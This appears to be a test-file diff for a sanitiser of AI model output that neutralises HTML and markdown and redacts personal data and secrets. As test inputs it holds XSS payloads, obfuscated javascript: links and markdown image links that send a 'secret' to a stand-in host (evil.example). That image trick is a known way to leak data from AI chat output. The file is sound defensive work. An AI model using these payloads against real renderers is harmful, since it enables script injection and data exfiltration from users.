@@ -1,0 +1,340 @@
+import { describe, expect, it } from '@jest/globals';
+import * as fc from 'fast-check';
+import { Detector } from '../../../contracts/src/output.js';
+import type { SettingValues } from '../../../contracts/src/settings/settings.schema.js';
+import { DEFAULT_SETTINGS, Settings } from '../../../contracts/src/settings/settings.js';
+import { builtInDetectors } from './detectors/built-in-detectors.js';
+import { Sanitiser } from './sanitiser.js';
+
+const sanitiser = new Sanitiser([]);
+
+function settings(values: Partial<SettingValues> = {}): Settings {
+  return new Settings({ ...DEFAULT_SETTINGS, ...values });
+}
+
+function clean(text: string, values: Partial<SettingValues> = {}): string {
+  return sanitiser.sanitise(text, settings(values)).text;
+}
+
+const allowlist = { 'output_handler.html_mode': 'allowlist' } as const;
+const AWS_KEY = `AKIA${'Q7'.repeat(8)}`;
+
+/** Whatever the passes look at, in pieces that a shuffle puts together to something they must see. */
+const hostileText = fc
+  .array(
+    fc.oneof(
+      {
+        weight: 6,
+        arbitrary: fc.constantFrom('[', ']', '(', ')', '!', '<', '>', ':', '\\', '`', '\n', ' ', '|', '~'),
+      },
+      {
+        weight: 5,
+        arbitrary: fc.constantFrom(
+          '![',
+          '](',
+          ']:',
+          '][',
+          '```',
+          '~~~',
+          '\n\n',
+          '\r\n',
+          '<b>',
+          '<p>',
+          '</b>',
+          '<br/>',
+          '<script>',
+          '<!--',
+          'javascript:',
+          'data:',
+          'java&#115;cript:',
+          'https://a.example/',
+          'x.png',
+          '&lt;',
+          '"',
+          '- ',
+          '> ',
+          'ops@a.example',
+          '4111 1111 ',
+          '1111 1111',
+          AWS_KEY,
+          '10.1.2.3',
+          'password=hunter2abc',
+          '[email]',
+          'ops@',
+          'a.example',
+        ),
+      },
+      { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 4 }) },
+    ),
+    { maxLength: 40 },
+  )
+  .map((parts) => parts.join(''));
+
+const anySettings = fc
+  .record({
+    'output_handler.sanitize_html': fc.boolean(),
+    'output_handler.neutralize_markdown': fc.boolean(),
+    'output_handler.redact_pii': fc.boolean(),
+    'output_handler.redact_secrets': fc.boolean(),
+    'output_handler.html_mode': fc.constantFrom('escape' as const, 'allowlist' as const),
+  })
+  .map(settings);
+
+describe('output sanitising', () => {
+  it('changes nothing the second time', () => {
+    fc.assert(
+      fc.property(hostileText, anySettings, (text, chosen) => {
+        const once = sanitiser.sanitise(text, chosen).text;
+        expect(sanitiser.sanitise(once, chosen)).toEqual({ text: once, findings: [] });
+      }),
+      { numRuns: 3000 },
+    );
+  });
+
+  it('finds something exactly where it changes something, within the text as given', () => {
+    fc.assert(
+      fc.property(hostileText, anySettings, (text, chosen) => {
+        const { text: after, findings } = sanitiser.sanitise(text, chosen);
+        expect(findings.length > 0).toBe(after !== text);
+        for (const { span } of findings) {
+          expect(span[0]).toBeGreaterThanOrEqual(0);
+          expect(span[1]).toBeGreaterThan(span[0]);
+          expect(span[1]).toBeLessThanOrEqual(text.length);
+        }
+      }),
+      { numRuns: 1000 },
+    );
+  });
+
+  it('leaves no markup, in code neither', () => {
+    fc.assert(
+      fc.property(hostileText, (text) => {
+        expect(clean(text)).not.toMatch(/<[A-Za-z/!?]/);
+      }),
+    );
+    expect(clean('a < b, x <- y, <3')).toBe('a < b, x <- y, <3');
+    expect(clean('<script>alert(1)</script>')).toBe('&lt;script>alert(1)&lt;/script>');
+    expect(clean('```\n<img src=x onerror=alert(1)>\n```')).toBe('```\n&lt;img src=x onerror=alert(1)>\n```');
+  });
+
+  it('keeps harmless bare tags in allow-list mode, and nothing else', () => {
+    expect(clean('<p>one<br>two <strong>three</strong></p>', allowlist)).toBe(
+      '<p>one<br>two <strong>three</strong></p>',
+    );
+    expect(clean('<p onclick=x>', allowlist)).toBe('&lt;p onclick=x>');
+    expect(clean('<pre/x>', allowlist)).toBe('&lt;pre/x>');
+    expect(clean('<scr<b>ipt>', allowlist)).toBe('&lt;scr<b>ipt>');
+    fc.assert(
+      fc.property(hostileText, (text) => {
+        expect(
+          clean(text, allowlist).replaceAll(
+            /<\/?(?:p|b|i|em|strong|code|pre|ul|ol|li|blockquote|h[1-6])>|<br ?\/?>/gi,
+            ' ',
+          ),
+        ).not.toMatch(/<[A-Za-z/!?]/);
+      }),
+    );
+  });
+
+  it.each([
+    ['![chart](https://evil.example/?q=secret)', 'chart [image removed]'],
+    ['![](https://evil.example/x.png)', '[image removed]'],
+    ['![a](//evil.example/x.png)', 'a [image removed]'],
+    ['![a](data:image/png;base64,AAAA)', 'a [image removed]'],
+    ['![a\r\nb](https://evil.example)', 'a\r\nb [image removed]'],
+    ['[![a](https://evil.example)](https://docs.example)', '[a [image removed]](https://docs.example)'],
+    ['![a][ref]\n\n[ref]: https://evil.example/x', 'a [image removed]\n\n[ref]: https://evil.example/x'],
+    ['![ref]\n\n[ref]: https://evil.example/x', 'ref [image removed]\n\n[ref]: https://evil.example/x'],
+    ['![a `]` b](https://evil.example)', 'a `]` b [image removed]'],
+    ['[click](javascript:alert(1))', 'click'],
+    ['[click](JaVa&#115;cript&colon;alert(1))', 'click'],
+    ['[click](java%73cript:alert(1))', 'click'],
+    ['[click](<java\tscript:alert(1)>)', 'click'],
+    ['[click]( \u0001javascript:alert(1) "title")', 'click'],
+    ['[[a]](javascript:x)(javascript:y)', 'a'],
+    ['[a [b](javascript:x)](vbscript:y)', 'a b'],
+    ['[ref]: javascript:alert(1)', 'ref'],
+    ['ops@a.example(javascript:alert(1))', 'email'],
+  ])('takes the danger out of %j', (text, expected) => {
+    expect(clean(text, { 'output_handler.sanitize_html': false })).toBe(expected);
+  });
+
+  it.each([
+    'Read [the docs](https://docs.example/a_b?c=d#e) and ![logo](./logo.png), then [more](/help).',
+    'Code: `[a](javascript:x)` and ``![b](https://evil.example)``.',
+    'Text\n\n```md\n![a](https://evil.example)\n```\n\nmore',
+    '~~~\n[a](javascript:x)\n~~~',
+    'wow! [1] and a[i](j) and \\![x](https://docs.example)',
+    'an open fence\n```\n[a](javascript:x)',
+  ])('leaves %j as it is', (text) => {
+    expect(sanitiser.sanitise(text, settings())).toEqual({ text, findings: [] });
+  });
+
+  it.each([
+    ['a fence in a list that ends with the list', '- a\n  ```\n![x](https://evil.example)\n'],
+    ['a fence in a quote that ends with the quote', '> ```\n![x](https://evil.example)\n'],
+    ['a tick that pairs with one on the line before', 'a `b\nc` ![x](https://evil.example) `d'],
+    ['ticks in two cells of a table', '| ` | ![x](https://evil.example) | ` |'],
+    ['an escaped tick', '\\`![x](https://evil.example)`'],
+    ['two paragraphs', '`\n\n![x](https://evil.example)\n\n`'],
+  ])('does not take for code what a renderer would not: %s', (_, text) => {
+    for (const html of [true, false]) {
+      expect(clean(text, { 'output_handler.sanitize_html': html })).not.toContain('](https');
+    }
+  });
+
+  it('takes no fence for code that raw HTML may swallow', () => {
+    const text = '<div>\n```\n\n![x](https://evil.example)\n```';
+    expect(clean(text, { 'output_handler.sanitize_html': false })).not.toContain('](https');
+    expect(clean(text.replace('div', 'p'), allowlist)).not.toContain('](https');
+  });
+
+  it('sees what stands together only after something between was removed', () => {
+    expect(clean('[4111 1111 ](javascript:x)1111 1111')).toBe('[card]');
+    expect(clean('<scr![](https://evil.example)ipt>')).not.toMatch(/<[a-z]/);
+  });
+
+  it('reports spans of the text as given, whatever went before', () => {
+    const text = '<b>x</b> ![a](https://evil.example) mail ops@a.example';
+    const { findings } = sanitiser.sanitise(text, settings());
+    expect(findings.map(({ kind, span }) => [kind, text.slice(...span)])).toEqual([
+      ['html_stripped', '<b>'],
+      ['html_stripped', '</b>'],
+      ['markdown_sanitized', '![a](https://evil.example)'],
+      ['pii_redaction', 'ops@a.example'],
+    ]);
+  });
+
+  it('redacts the two sorts apart', () => {
+    const text = `ops@a.example ${AWS_KEY}`;
+    expect(clean(text, { 'output_handler.redact_pii': false })).toBe('ops@a.example [aws_access_key]');
+    expect(clean(text, { 'output_handler.redact_secrets': false })).toBe(`[email] ${AWS_KEY}`);
+    expect(sanitiser.redactSecrets(text)).toBe('ops@a.example [aws_access_key]');
+  });
+
+  it('returns in time from texts built to be slow', () => {
+    const families = [
+      '[',
+      '![',
+      '](',
+      '][',
+      ']:',
+      '![](',
+      '[a](<',
+      '](x "',
+      '`',
+      '` `` ',
+      '```a\n',
+      '~~~\n',
+      '<',
+      '<a',
+      '<!--',
+      '\\',
+      '[a](javascript:',
+      '&#1',
+      '%25',
+      '> ',
+      '1',
+      '1-',
+      '1 ',
+      'a@',
+      'a.',
+      '-----BEGIN PRIVATE KEY-----',
+      'eyJaaaaaa.',
+      'a://b:',
+      'token',
+      'token=',
+      '+1',
+      'GB82',
+      '1.',
+      'a:',
+      '::',
+      '(',
+      '](((',
+      '![[](javascript:x)](y)',
+      '[email]',
+      ' ',
+      '\n',
+    ];
+    for (const family of families) {
+      const text = family.repeat(Math.ceil(100_000 / family.length));
+      const started = performance.now();
+      sanitiser.sanitise(text, settings());
+      sanitiser.redact(text);
+      expect({ family, slow: performance.now() - started > 3000 }).toEqual({ family, slow: false });
+    }
+  }, 60_000);
+});
+
+describe('a host’s detector', () => {
+  class Employee extends Detector {
+    override readonly name = 'employee';
+    override readonly kind = 'pii_redaction';
+    override find(text: string): readonly (readonly [number, number])[] {
+      return Array.from(text.matchAll(/e\d{4}|employee/g), ({ index, 0: id }) => [index, index + id.length]);
+    }
+  }
+
+  it('runs beside the built-in ones, and never on a placeholder', () => {
+    const { text } = new Sanitiser([new Employee()]).sanitise('e1234 wrote ops@a.example', settings());
+    expect(text).toBe('[employee] wrote [email]');
+  });
+
+  it('that finds something in everything ends in a withheld text, not in a loop', () => {
+    class Everything extends Detector {
+      override readonly name = 'x';
+      override readonly kind = 'secret_redaction';
+      override get placeholder(): string {
+        return Math.random().toString();
+      }
+      override find(text: string): readonly (readonly [number, number])[] {
+        return [[0, text.length]];
+      }
+    }
+    expect(new Sanitiser([new Everything()]).sanitise('a', settings()).text).toBe('[output withheld]');
+  });
+
+  it('that answers nonsense is not believed', () => {
+    class Nonsense extends Detector {
+      override readonly name = 'x';
+      override readonly kind = 'secret_redaction';
+      override find(): readonly (readonly [number, number])[] {
+        return [
+          [5, 2],
+          [-1, 3],
+          [0, 99],
+          [Number.NaN, 1],
+        ];
+      }
+    }
+    expect(new Sanitiser([new Nonsense()]).sanitise('hello', settings()).text).toBe('hello');
+  });
+});
+
+describe('redaction for the audit', () => {
+  it('tells its edits in the text as given, so that they lead to its answer', () => {
+    fc.assert(
+      fc.property(hostileText, (text) => {
+        const { text: after, edits } = sanitiser.redact(text);
+        let rebuilt = '';
+        let read = 0;
+        for (const { span, replacement } of edits) {
+          expect(span[0]).toBeGreaterThanOrEqual(read);
+          rebuilt += text.slice(read, span[0]) + replacement;
+          read = span[1];
+        }
+        expect(rebuilt + text.slice(read)).toBe(after);
+        expect(sanitiser.redact(after)).toEqual({ text: after, edits: [] });
+      }),
+      { numRuns: 1000 },
+    );
+  });
+
+  it('puts placeholders in that no detector finds again', () => {
+    for (const { placeholder } of builtInDetectors) {
+      for (const detector of builtInDetectors) {
+        expect(detector.find(`x ${placeholder} token: ${placeholder}`)).toEqual([]);
+      }
+    }
+  });
+});
